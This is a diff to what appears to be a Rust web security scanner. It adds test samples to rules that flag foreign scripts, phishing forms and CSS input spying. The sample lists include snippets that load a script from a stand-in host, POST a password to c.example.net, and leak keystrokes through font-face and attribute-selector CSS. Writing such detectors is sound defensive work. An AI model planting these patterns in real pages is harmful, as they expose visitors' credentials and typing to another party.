@@ -17,6 +17,11 @@ pub static FOREIGN_SCRIPT: Rule = Rule {
     why: "whoever owns that host runs code in the page of every visitor",
     remedy: "put the script into the app, or take it from a well-known host of libraries",
     finds: &[
+        (
+            "x.js",
+            "document.head.append(Object.assign(document.createElement('script'), { src: 'https://c.example.net/a' }))",
+        ),
+        ("x.tsx", "export const A = () => <Script src=\"https://c.example.net/a.js\" />;"),
         ("x.html", "<script src=\"https://cdn.evil-analytics.example/t.js\"></script>"),
         ("x.html", "<SCRIPT/SRC=//45.33.32.156/a.js></SCRIPT>"),
         (
@@ -41,6 +46,10 @@ pub static PHISHING: Rule = Rule {
     remedy: "post the form to the app's own server",
     finds: &[
         (
+            "x.jsx",
+            "const go = () => fetch('https://c.example.net/in', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
+        ),
+        (
             "x.html",
             "<form action=\"https://c.example.net/l.php\" method=post><input name=u><input type=password name=p></form>",
         ),
@@ -48,6 +57,10 @@ pub static PHISHING: Rule = Rule {
         ("x.html", "<form action=https://c.example.net><input name=card_number><input name=cvv></form>"),
     ],
     spares: &[
+        (
+            "x.jsx",
+            "const go = () => fetch('/login', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
+        ),
         ("x.html", "<form action=\"/login\" method=post><input type=password></form>"),
         ("x.html", "<form action=\"https://formspree.io/f/x\"><input type=email name=email></form>"),
     ],
@@ -95,7 +108,10 @@ pub static STYLE_SPY: Rule = Rule {
     severity: Severity::Block,
     why: "it tells another site what a visitor types",
     remedy: "remove the selector, or the address",
-    finds: &[("x.css", "input[value^=a] { background: url(https://c.example.net/a) }")],
+    finds: &[
+        ("x.css", "@font-face { font-family: a; src: url(https://c.example.net/f?A); unicode-range: U+0041; }"),
+        ("x.css", "input[value^=a] { background: url(https://c.example.net/a) }"),
+    ],
     spares: &[("x.css", "input[type=text] { background: url(/img/a.png) } a[href^='https:'] { color: red }")],
 };
 pub static STYLE_FOREIGN: Rule = Rule {
